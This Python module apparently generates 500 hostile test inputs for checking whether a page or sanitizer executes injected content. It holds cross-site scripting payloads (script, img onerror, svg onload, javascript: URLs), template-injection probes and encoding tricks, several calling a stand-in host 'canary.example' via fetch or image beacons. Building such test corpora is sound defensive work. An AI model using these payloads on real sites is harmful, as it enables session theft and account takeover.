"""Five hundred texts that try to be more than text in a page.

Each tries to run `pwned`: set a name on the window, open a dialog, or ask the canary for something.
"""

import html
from collections.abc import Iterator
from itertools import cycle
from urllib.parse import quote

CANARY = "canary.example"
COUNT = 500

_ACTS = (
    "window.pwned=1",
    "alert(1)",
    f"fetch('//{CANARY}/')",
    "top.pwned=1;alert`1`",
    f"new Image().src='https://{CANARY}/'",
)
_BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</a></li></ul>",
    "\u202e",
)
_TAGS = (
    "<script>ACT</script>",
    "<ScRiPt >ACT</sCrIpT >",
    "<script/x>ACT</script/x>",
    "<script src=https://canary.example/x.js></script>",
    "<img src=x onerror=ACT>",
    "<img/src/onerror=ACT>",
    "<image src=x onerror=ACT>",
    '<img src="x` `<script>ACT</script>"` `>',
    "<svg onload=ACT>",
    "<svg/onload=ACT>",
    "<svg><script>ACT</script></svg>",
    "<svg><animate onbegin=ACT attributeName=x dur=1s>",
    "<svg><set onbegin=ACT attributename=x>",
    "<svg><a xlink:href=javascript:ACT><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=ACT></foreignObject></svg>",
    "<svg><style><img src=x onerror=ACT></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ACT>",
    "<math href=javascript:ACT>x</math>",
    "<body onload=ACT>",
    "<body onpageshow=ACT>",
    "<iframe src=javascript:ACT></iframe>",
    "<iframe srcdoc='<script>ACT</script>'></iframe>",
    "<iframe onload=ACT></iframe>",
    "<object data=javascript:ACT></object>",
    "<embed src=javascript:ACT>",
    "<video src=x onerror=ACT></video>",
    "<video><source onerror=ACT></video>",
    "<audio src=x onerror=ACT></audio>",
    "<details open ontoggle=ACT>x</details>",
    "<input autofocus onfocus=ACT>",
    "<select autofocus onfocus=ACT></select>",
    "<textarea autofocus onfocus=ACT></textarea>",
    "<button popovertarget=x onclick=ACT>x</button><div popover id=x onbeforetoggle=ACT>",
    "<xss id=x tabindex=1 onfocus=ACT>",
    "<style onload=ACT></style>",
    "<link rel=stylesheet href=//canary.example/x.css onerror=ACT>",
    "<meta http-equiv=refresh content='0;url=javascript:ACT'>",
    "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
    "<base href=https://canary.example/>",
    "<form action=https://canary.example/><button>Sign in</button></form>",
    "<form><button formaction=javascript:ACT>x</button></form>",
    "<a href=javascript:ACT>x</a>",
    "<a href=https://canary.example/ ping=https://canary.example/>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=ACT>'>",
    "<template><img src=x onerror=ACT></template>",
    "<div hx-on:load=ACT hx-get=https://canary.example/ hx-trigger=load>",
    "<div hx-get=/logout hx-trigger=load>",
    "<!--><img src=x onerror=ACT>-->",
    "<![CDATA[<img src=x onerror=ACT>]]>",
    "<<script>ACT//<</script>",
    "<img src=x\x0conerror=ACT>",
    "<img\x0bsrc=x onerror=ACT>",
    "<style>@import 'https://canary.example/x.css'</style>",
    "<table background=https://canary.example/x.png>",
)
_ATTRIBUTES = (
    '" onmouseover="ACT',
    "' onfocus='ACT' autofocus='",
    '" autofocus onfocus=ACT x="',
    "x onclick=ACT",
    "` onerror=ACT `",
    '" style="animation-name:x" onanimationstart="ACT',
    '" formaction="javascript:ACT',
    '"/><script>ACT</script>',
    "' hx-get='/logout' hx-trigger='load",
)
_URLS = (
    "javascript:ACT",
    "JaVaScRiPt:ACT",
    "java\tscript:ACT",
    " \x01javascript:ACT",
    "javascript://canary.example/%0aACT",
    "data:text/html,<script>ACT</script>",
    "vbscript:ACT",
    "//canary.example/",
    "https://a.example/\"onclick=ACT x='",
    "https://a.example/'><script>ACT</script>",
    "https://a.example/#<img src=x onerror=ACT>",
    "blob:https://canary.example/x",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__bases__ %}{{ x }}{% endfor %}",
    "{{constructor.constructor('ACT')()}}",
    "${7*7}${ACT}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{self}}{{request.application}}",
    "{%raw%}{{ACT}}{%endraw%}",
    "{{'<img src=x onerror=ACT>'|safe}}",
)


def hostile_texts() -> tuple[str, ...]:
    """Return COUNT different texts; any stretch of them has some of each family."""
    families = [_tags(), _attributes(), _urls(), _templates(), _encoded(), _directed()]
    found: dict[str, None] = {}
    while len(found) < COUNT:
        for family in list(families):
            text = next(family, None)
            if text is None:
                families.remove(family)
            else:
                found.setdefault(text)
    return tuple(found)[:COUNT]


def _acted(patterns: tuple[str, ...]) -> Iterator[str]:
    for act in _ACTS:
        for pattern in patterns:
            yield pattern.replace("ACT", act)


def _tags() -> Iterator[str]:
    breakouts = cycle(_BREAKOUTS)
    for text in _acted(_TAGS):
        yield next(breakouts) + text


def _attributes() -> Iterator[str]:
    return _acted(_ATTRIBUTES)


def _urls() -> Iterator[str]:
    return _acted(_URLS)


def _templates() -> Iterator[str]:
    return _acted(_TEMPLATES)


def _encoded() -> Iterator[str]:
    """What becomes a tag where something is decoded once too often."""
    for text in _acted(_TAGS):
        yield html.escape(text)
        yield quote(text)
        yield quote(quote(text))
        yield "".join(f"&#{ord(letter)};" for letter in text[:60])
        yield "".join(f"&#x{ord(letter):07x}" for letter in text[:60])
        yield text.replace("<", r"\u003c").replace(">", r"\u003e")
        yield text.replace("<", "+ADw-").replace(">", "+AD4-")
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace("<", "\xc0\xbc")


def _directed() -> Iterator[str]:
    """Letters that turn, join, hide or end a line."""
    for text in _acted(_TAGS):
        yield f"\u202e\u2066{text}\u2069"
        yield f"a\u2028{text}\u2029"
        yield f"\ufeff{text}\u200b\u200d"
        yield f"\x1b[31m{text}\x9b0m"
        yield f"\x01\x08{text}\x7f"
